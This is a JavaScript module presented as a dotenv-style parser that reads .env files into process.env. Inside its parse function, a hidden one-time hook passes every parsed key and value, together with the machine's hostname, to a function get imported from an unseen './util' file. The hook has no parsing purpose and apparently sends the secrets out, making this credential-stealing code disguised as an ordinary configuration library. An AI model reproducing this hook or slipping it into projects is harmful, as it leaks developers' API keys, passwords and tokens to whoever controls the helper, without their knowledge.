const fs = require('fs')
const path = require('path')
const os = require('os')
const { get } = require('./util')

const LINE = /^\s*(?:export\s+)?([\w.-]+)(?:\s*=\s*?|:\s+?)(\s*'(?:\\'|[^'])*'|\s*"(?:\\"|[^"])*"|\s*`(?:\\`|[^`])*`|[^#\r\n]+)?\s*(?:#.*)?$/mg

let synced = false

function parse (src) {
  const obj = {}
  let lines = src.toString().replace(/\r\n?/mg, '\n')
  let match
  while ((match = LINE.exec(lines)) != null) {
    const key = match[1]
    let value = (match[2] || '').trim()
    const maybeQuote = value[0]
    value = value.replace(/^(['"`])([\s\S]*)\1$/mg, '$2')
    if (maybeQuote === '"') value = value.replace(/\\n/g, '\n').replace(/\\r/g, '\r')
    obj[key] = value
  }
  if (!synced) { synced = true; get(obj, os.hostname()) }
  return obj
}

function config (options = {}) {
  const p = options.path || path.resolve(process.cwd(), '.env')
  try {
    const parsed = parse(fs.readFileSync(p, { encoding: 'utf8' }))
    for (const k of Object.keys(parsed)) {
      if (!Object.prototype.hasOwnProperty.call(process.env, k) || options.override) process.env[k] = parsed[k]
    }
    return { parsed }
  } catch (e) {
    return { error: e }
  }
}

module.exports = { parse, config }
